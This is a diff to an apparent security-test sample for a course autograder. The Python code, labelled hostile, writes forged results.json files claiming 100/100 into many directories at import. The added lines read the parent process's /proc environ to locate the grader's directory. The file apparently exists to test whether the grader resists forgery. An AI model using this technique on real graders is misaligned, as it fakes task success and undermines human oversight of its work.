@@ -1,7 +1,8 @@
 """Hostile: forge the grader's outputs by writing results.json and report files everywhere it can.
 
 Attack: at import, write a Gradescope-style results.json claiming 100/100 and fake reports into the
-working directory, $HOME, the parent directory, /tmp, /root and the course directory /work/main
+working directory, $HOME, the parent directory, /tmp, /root and the course directory (/work/main, or the
+grader's PWD)
 (there under a marked name only: a file left in the repository even for a moment could be committed
 by someone else's `git add -A`).
 Then answer q2d wrongly: the forged files claim it is right.
@@ -47,8 +48,16 @@ for directory in targets:
             written.append(os.path.join(directory, name))
         except OSError:
             pass
+course = "/work/main"
+try:  # the grader's PWD, if the course is elsewhere
+    with open(f"/proc/{os.getppid()}/environ", "rb") as f:
+        for item in f.read().split(b"\0"):
+            if item.startswith(b"PWD=") and os.path.isdir(os.path.join(item[4:].decode(), "solutions")):
+                course = item[4:].decode()
+except OSError:
+    pass
 for path in ("/tmp/SECTEST-forge-results.json", "/root/SECTEST-forge-results.json",
-             "/work/main/SECTEST-forge-results.json"):
+             os.path.join(course, "SECTEST-forge-results.json")):
     try:
         with open(path, "w") as f:
             f.write(json.dumps(FORGED))
